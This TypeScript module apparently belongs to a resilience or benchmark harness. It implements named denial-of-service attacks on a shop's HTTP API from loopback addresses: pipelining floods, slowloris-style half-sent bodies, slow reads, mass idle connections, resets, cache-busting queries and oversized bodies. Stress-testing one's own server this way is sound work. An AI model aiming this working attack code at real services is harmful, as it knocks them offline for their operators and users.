import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

/** The knowledge of a hostile client: the address, and a publishable key, which every browser of the shop has. */
export interface AttackTarget {
  address: string
  authorization: string
}

/** Attacks until the signal is aborted. */
export type Attack = (target: AttackTarget, signal: AbortSignal) => Promise<void>

const PIPELINED = 1_100
const HALF_BODIES = 3_000
const SLOW_READERS = 1_000
/** Few, so that they come from the cache: `cache misses` is an attack of its own. */
const LARGE_PAGES = 10
const IDLE_CONNECTIONS = 10_000
/** Ports are limited per source address. */
const CONNECTIONS_PER_ADDRESS = 2_500

const get = ({ authorization }: AttackTarget, path: string, headers = '') =>
  `GET ${path} HTTP/1.1\r\nHost: shop\r\nAuthorization: ${authorization}\r\n${headers}\r\n`
const post = ({ authorization }: AttackTarget, path: string, bytes: number, body: string) =>
  `POST ${path} HTTP/1.1\r\nHost: shop\r\nAuthorization: ${authorization}\r\nContent-Length: ${bytes}\r\n\r\n${body}`

const batchOf = (bytes: number) => {
  const count = Math.floor((bytes - 20) / 4)
  return `{"skus":[${'1.0,'.repeat(count)}1.0]}`
}

/** The attacks of the scenario, by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  none: () => Promise.resolve(),
  pipelining: (target, signal) =>
    repeat(8, signal, async (index) => {
      const path = index % 2 ? '/docs/scalar.js' : '/v1/products?limit=200'
      await hold(await open(target, signal), get(target, path).repeat(PIPELINED), signal)
    }),
  'half bodies': (target, signal) =>
    repeat(HALF_BODIES, signal, async (index) => {
      const [path, bytes] = index % 2 ? ['/hooks/bench/inventory', 65_536] : ['/v1/availability/batch', 16_384]
      await hold(await open(target, signal, index), post(target, path, bytes, 'x'.repeat(bytes - 1)), signal)
    }),
  resets: (target, signal) =>
    repeat(50, signal, async () => {
      const socket = await open(target, signal)
      socket.write(get(target, '/v1/products?limit=200'), () => socket.resetAndDestroy())
      await closed(socket)
    }),
  'cache misses': (target, signal) =>
    repeat(50, signal, () =>
      ask(target, get(target, `/v1/products?q=${randomBytes(6).toString('hex')}`, 'If-None-Match: *\r\n'), signal),
    ),
  'bad bodies': (target, signal) =>
    repeat(20, signal, async (index) => {
      const body = batchOf(index % 2 ? 16_384 : 1_048_576)
      await ask(target, post(target, '/v1/availability/batch', body.length, body), signal)
    }),
  'slow reads': (target, signal) =>
    repeat(SLOW_READERS, signal, async (index) =>
      hold(
        await open(target, signal, index),
        get(target, `/v1/products?limit=200&offset=${index % LARGE_PAGES}`),
        signal,
      ),
    ),
  'idle connections': (target, signal) =>
    repeat(IDLE_CONNECTIONS, signal, async (index) =>
      hold(await open(target, signal, index), get(target, '/livez'), signal),
    ),
}

/** Runs an action in a number of loops, which start a few at a time. */
async function repeat(loops: number, signal: AbortSignal, act: (index: number) => Promise<void>): Promise<void> {
  const loop = async (index: number) => {
    while (!signal.aborted) {
      await act(index)
      await pause(1)
    }
  }
  const running: Promise<void>[] = []
  for (let index = 0; index < loops && !signal.aborted; index += 1) {
    running.push(loop(index))
    if (index % 50 === 49) await pause(5)
  }
  await Promise.all(running)
}

/** Opens a connection from one of several loopback addresses. */
async function open({ address }: AttackTarget, signal: AbortSignal, index = 0): Promise<Socket> {
  const { hostname, port } = new URL(address)
  const localAddress = `127.0.0.${2 + Math.floor(index / CONNECTIONS_PER_ADDRESS)}`
  const socket = connect({ host: hostname, port: Number(port), localAddress })
  socket.on('error', () => {})
  const abort = () => socket.destroy()
  signal.addEventListener('abort', abort, { once: true })
  socket.once('close', () => signal.removeEventListener('abort', abort))
  await Promise.race([once(socket, 'connect'), closed(socket)])
  return socket
}

/** Writes, and reads nothing until the end of the attack, or until the server closes the connection. */
async function hold(socket: Socket, bytes: string, signal: AbortSignal): Promise<void> {
  socket.pause()
  socket.write(bytes)
  // A paused connection does not notice that it was closed.
  while (!signal.aborted && !socket.destroyed) {
    await pause(2_000, undefined, { signal }).catch(() => {})
    socket.write('\r\n')
  }
  socket.destroy()
}

async function ask(target: AttackTarget, bytes: string, signal: AbortSignal): Promise<void> {
  const socket = await open(target, signal)
  socket.write(bytes)
  await Promise.race([once(socket, 'data').catch(() => {}), closed(socket)])
  socket.destroy()
}

const closed = (socket: Socket) => (socket.closed ? Promise.resolve() : once(socket, 'close').catch(() => {}))
